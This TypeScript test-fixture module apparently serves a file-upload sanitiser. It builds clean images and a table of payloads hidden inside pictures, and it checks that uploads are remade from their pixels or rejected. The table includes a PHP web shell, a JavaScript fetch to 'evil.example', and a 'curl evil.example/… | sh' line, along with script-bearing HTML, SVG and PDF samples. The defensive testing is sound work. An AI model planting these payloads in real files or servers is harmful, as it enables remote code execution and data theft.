import { crc32 } from 'node:zlib'
import sharp from 'sharp'
import type { DocumentFault } from '#server/platform/decoding/decoder.ts'

/** In every foreign payload: found in nothing the club stores. */
export const MARKER = 'parlour-foreign-payload'

/** What must happen to a file: what is taken is remade from its pixels, whatever else was in it. */
type HostileFate = 'remade' | 'wrong_file_type' | DocumentFault | 'no_crash'

export type HostileFile = {
  name: string
  bytes: Uint8Array<ArrayBuffer>
  /** What its name ends in. */
  type: 'jpeg' | 'png' | 'pdf'
  /** As an identity document. */
  fate: HostileFate
  /** As a photo of a profile, where names do not count. */
  asPhoto: HostileFate
}

type Given = Omit<HostileFile, 'bytes' | 'asPhoto'> & { bytes: Uint8Array; asPhoto?: HostileFate }

export function hostile({ bytes, asPhoto, ...rest }: Given): HostileFile {
  const { fate, type } = rest
  const asFate = type === 'pdf' && fate !== 'no_crash' ? 'wrong_file_type' : fate
  return { ...rest, bytes: new Uint8Array(bytes), asPhoto: asPhoto ?? asFate }
}

const lines = (n: number, of: (at: number) => string) =>
  Array.from({ length: n }, (_, at) => of(at))

/** A picture of much detail, so that cutting or flipping it hits pixels. */
async function drawn() {
  const stripes = lines(
    40,
    (at) =>
      `<line x1="${at * 6}" y1="0" x2="${(at * 97) % 240}" y2="160" stroke="hsl(${at * 9} 80% 50%)"/>`,
  )
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="240" height="160"><rect width="240" height="160" fill="#fff"/>${stripes.join('')}</svg>`
  return sharp(Buffer.from(svg)).removeAlpha()
}

export const goodJpeg = async (): Promise<Buffer> =>
  (await drawn()).jpeg({ quality: 90 }).toBuffer()
export const goodPng = async (): Promise<Buffer> => (await drawn()).png().toBuffer()
export const goodWebp = async (): Promise<Buffer> => (await drawn()).webp().toBuffer()

/** A JPEG segment put right after the start of the picture. */
export function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)])
}

export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const ends = Buffer.alloc(8)
  ends.writeUInt32BE(data.length, 0)
  ends.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)])
}

export const PNG_MAGIC = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
const AFTER_IHDR = 8 + 25

/** A PNG chunk put right after the header. */
export const withChunk = (png: Buffer, type: string, data: Buffer): Buffer =>
  Buffer.concat([png.subarray(0, AFTER_IHDR), pngChunk(type, data), png.subarray(AFTER_IHDR)])

/** The header chunk of a PNG that says it is so large. */
export function pngHeader(width: number, height: number, { depth = 8, colour = 2 } = {}): Buffer {
  const data = Buffer.alloc(13)
  data.writeUInt32BE(width >>> 0, 0)
  data.writeUInt32BE(height >>> 0, 4)
  data[8] = depth
  data[9] = colour
  return pngChunk('IHDR', data)
}

export const text = (content: string): Buffer => Buffer.from(content, 'latin1')

const ZIP = 'PK\x03\x04\x14\x00\x00\x00\x00\x00'

/** What attackers hide in a picture. */
export const payloads: Record<string, Buffer> = {
  HTML: text(`<html><script>alert('${MARKER}')</script></html>`),
  SVG: text(`<svg xmlns="http://www.w3.org/2000/svg" onload="${MARKER}"/>`),
  PHP: text(`<?php system($_GET['c']); /* ${MARKER} */ ?>`),
  JavaScript: text(`*/=1;fetch('//evil.example/${MARKER}');/*`),
  ZIP: text(`${ZIP}${MARKER}PK\x05\x06${'\0'.repeat(18)}`),
  'JAR (GIFAR)': text(`${ZIP}META-INF/MANIFEST.MF${MARKER}PK\x05\x06${'\0'.repeat(18)}`),
  'a Windows program': text(`MZ\x90\x00\x03${MARKER}This program cannot be run in DOS mode.`),
  'a Linux program': text(`\x7fELF\x02\x01\x01${MARKER}`),
  'a shell script': text(`\n#!/bin/sh\ncurl evil.example/${MARKER} | sh\n`),
  EICAR: text(`${MARKER}X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`),
  'a PDF with script': text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(${MARKER})>>>>`),
  'a GIF': text(`GIF89a/*${MARKER}*/=1;`),
}
